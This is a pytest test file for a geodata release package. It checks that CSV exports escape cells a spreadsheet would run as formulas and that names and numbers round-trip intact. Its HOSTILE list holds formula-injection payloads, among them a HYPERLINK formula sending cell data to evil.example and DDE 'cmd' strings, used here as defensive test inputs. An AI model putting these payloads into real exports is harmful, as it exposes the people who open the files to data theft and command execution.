"""No CSV holds a cell that a spreadsheet takes for a formula, whatever somebody's names are; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, strategies as st

import dpviz
from dpviz.domain import ExactCounts, ExactPoints, Frame, GeoBox, Grid
from dpviz.ledger.ledger import Ledger
from dpviz.life import folder_files
from dpviz.publishing import audit_log
from dpviz.releases.release import Release
from dpviz.releases.spreadsheets import csv_of_table, csv_text, harmless, harmless_table, original
from dpviz.releases.tables import columns_of, csv_bytes, parse_csv
from dpviz.ui.compare import areas

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u2212" + "1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "x;=1+1",
    'x;"=1+1"',
    "x\t=1+1",
    "x\r\n=1+1",
    "a, b\n@c",
    "-5",  # beside a name such as 0+cmd|… it would be one formula where the comma is the decimal sign
)
PLAIN = ("Mitte", "Saint-Denis", "A=B", "1st + 2nd", "o'clock", "'s-Hertogenbosch", "", "5", "0.25", "1e-5")
BOX = GeoBox(-74.05, 40.70, -73.90, 40.80)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could run a cell: what shows nothing is passed over, forms of a sign are that sign."""
    seen = "".join(sign for sign in cell if unicodedata.category(sign) not in ("Cf", "Zs") and sign != "\0")
    first = unicodedata.normalize("NFKC", seen[:1]).replace("\u2212", "-")
    return cell[:1] in ("\t", "\r", "\n") or first in ("=", "+", "-", "@")


def cells(text: str) -> list[str]:
    """All cells, as spreadsheets of every country read the file: comma, semicolon or tab between cells."""
    found = []
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += row
    return found


def refuse_formulas(text: str) -> None:
    found = [cell for cell in cells(text) if is_formula(cell)]
    assert [cell for cell in found if not re.fullmatch(r"[-.,;0-9e]+", cell)] == []  # numbers stay numbers


def names_of(text: str, column: str) -> list[str]:
    """The names of a column, read back as the guide says."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [original(row[column]) for row in rows]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_that_begins_a_formula_becomes_text_and_comes_back(text: str) -> None:
    assert not is_formula(harmless(text)) and original(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_names_and_numbers_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text == original(text)


@given(st.text(st.sampled_from("=+-@\t\r\n;|\"' ,'ab1.＝－＠\u200b\u00a0\ufeff\u2212") | st.characters(), max_size=12))
def test_any_text_comes_back_and_none_begins_a_formula(text: str) -> None:
    assert original(harmless(text)) == text
    assert not is_formula(harmless(text))
    refuse_formulas(csv_text(["name", "to", "n"], [(text, text, -1.5)]))


def test_numbers_are_written_in_full_precision_and_missing_ones_are_empty() -> None:
    assert harmless_table(pd.DataFrame({"lon": ["-73.95", "-x"]}), keeps_numbers=True)["lon"].tolist() == [
        "-73.95",
        "'-x",
    ]
    table = pd.DataFrame({"=name": ["=1", "b"], "n": [-0.1, np.nan], "whole": pd.array([-3, None], dtype="Int64")})
    assert csv_of_table(table) == "'=name,n,whole\n'=1,-0.1,-3\nb,,\n"
    assert harmless_table(table).dtypes.tolist()[1:] == table.dtypes.tolist()[1:]
    assert csv_text(["a"], [(-1e-17,), (None,), (7,)]) == "a\n-1e-17\n\n7\n".replace("\n\n7", '\n""\n7')


# ---- every writer ----


def outlines() -> dict[str, Any]:
    """Areas of somebody's GeoJSON: strips of the box from west to east, each by a hostile name."""
    edges = np.linspace(BOX.west, BOX.east, len(HOSTILE) + 1)
    features = []
    for name, west, east in zip(HOSTILE, edges, edges[1:], strict=False):
        ring = [[west, 40.7], [east, 40.7], [east, 40.8], [west, 40.8], [west, 40.7]]
        geometry = {"type": "Polygon", "coordinates": [ring]}
        features.append({"type": "Feature", "properties": {"name": name}, "geometry": geometry})
    return {"type": "FeatureCollection", "features": features}


def released(data: ExactCounts | ExactPoints) -> Release:
    found = dpviz.release(data, k=2, budget=dpviz.Budget(epsilon=2.0), method="adaptive_tree", seed=1)
    assert isinstance(found, Release)
    return found


@pytest.fixture(scope="module")
def places() -> Release:
    held = np.full((32, 32), 40, np.int64)
    return released(ExactCounts.from_array(Grid(BOX, 32), held))


def test_areas_of_one_release_and_of_two_hold_no_formula(places: Release) -> None:
    first = areas.counts_of(places, outlines(), None).table
    second = areas.counts_of(places.redraw(1)[0], outlines(), None).table
    assert {name for name in first["area"] if is_formula(name)}, "the file's names are not hostile any more"
    for table, column in ((first, "area"), (areas.compare_counts(first, second), areas.say.AREA)):
        text = csv_of_table(table)
        refuse_formulas(text)
        assert names_of(text, column) == list(table[column])
        back = pd.read_csv(io.StringIO(text))
        numbers = [name for name, kind in table.dtypes.items() if kind.kind in "fi"]
        assert len(numbers) >= 2
        for name in numbers:
            assert np.allclose(back[name], table[name].astype(float), rtol=0, atol=0, equal_nan=True)


def test_flows_between_areas_hold_no_formula() -> None:
    ends = np.random.default_rng(3).uniform((-74.05, 40.70) * 2, (-73.90, 40.80) * 2, (20_000, 4))
    names = ("pickup_lon", "pickup_lat", "dropoff_lon", "dropoff_lat")
    low, high = (BOX.west, BOX.south) * 2, (BOX.east, BOX.north) * 2
    frame = Frame(names=names, low=low, high=high, scale=(84_000.0, 111_320.0) * 2, metric="m")
    trips = released(ExactPoints.from_array(frame, ends))
    found = areas.flows_of(trips, areas.counts_of(trips, outlines(), "pickup").zones)
    assert found is not None and any(map(is_formula, found["origin"])) and any(map(is_formula, found["destination"]))
    text = csv_of_table(found)
    refuse_formulas(text)
    assert names_of(text, "origin") == list(found["origin"])
    assert names_of(text, "destination") == list(found["destination"])


def test_names_of_columns_hold_no_formula_and_points_come_back() -> None:
    frame = Frame(names=("=lon()", "＠lat"), low=(0.0, 0.0), high=(1.0, 1.0), scale=(1.0, 1.0))
    raw = np.array([[0.5, 0.25], [1e-9, -0.0]])
    content = csv_bytes(columns_of(frame, raw, np.array([-1.5, 2.0])))
    refuse_formulas(content.decode("utf-8"))
    assert parse_csv(content, 3, what="points").tolist() == [[0.5, 0.25, -1.5], [1e-9, -0.0, 2.0]]


def test_centers_by_time_hold_no_formula(monkeypatch: pytest.MonkeyPatch) -> None:
    centers = pd.DataFrame({"lon": [-74.0], "lat": [40.75], "weight": [-2.5]})
    view = SimpleNamespace(parts=SimpleNamespace(names=HOSTILE), centers=lambda number, k: centers)
    sheet: Any = SimpleNamespace(request=SimpleNamespace(k=1))
    monkeypatch.setattr(folder_files, "view_parts", lambda release: view)
    text = folder_files.centers_by_time(sheet).decode("utf-8")
    refuse_formulas(text)
    assert names_of(text, "part") == list(HOSTILE)
    assert text.splitlines()[0] == "part,center,lon,lat,weight" and ",1,-74.0,40.75,-2.5" in text


def test_the_audit_log_holds_no_formula(tmp_path: Path) -> None:
    ledger = Ledger(tmp_path / "ledger.sqlite3")
    for name in HOSTILE:
        ledger.note(audit_log.VISIT, name, {"roles": ["reader"]}, who=name, why=name)
    text = audit_log.as_csv(audit_log.events(ledger))
    refuse_formulas(text)
    for column in ("who", "why", "subject"):
        assert names_of(text, column) == list(HOSTILE)
